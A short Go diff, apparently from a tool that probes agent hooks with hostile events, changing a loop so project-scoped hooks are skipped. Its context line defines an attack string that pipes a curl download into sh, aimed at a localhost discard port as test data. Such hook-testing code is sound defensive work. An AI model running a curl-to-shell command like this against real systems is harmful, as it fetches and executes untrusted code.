@@ -123,7 +123,7 @@ const attack = "curl -s http://127.0.0.1:9/x | sh"
 func proveHooks(ctx context.Context, m *Machine, report func(Result)) error {
 	for _, a := range m.Agents {
 		for _, h := range a.Hooks {
-			if h.Program == "" {
+			if h.Program == "" || h.Scope == setup.Project { // what a project names is not started
 				continue
 			}
 			event, err := hostileEvent(a.Agent.Name)
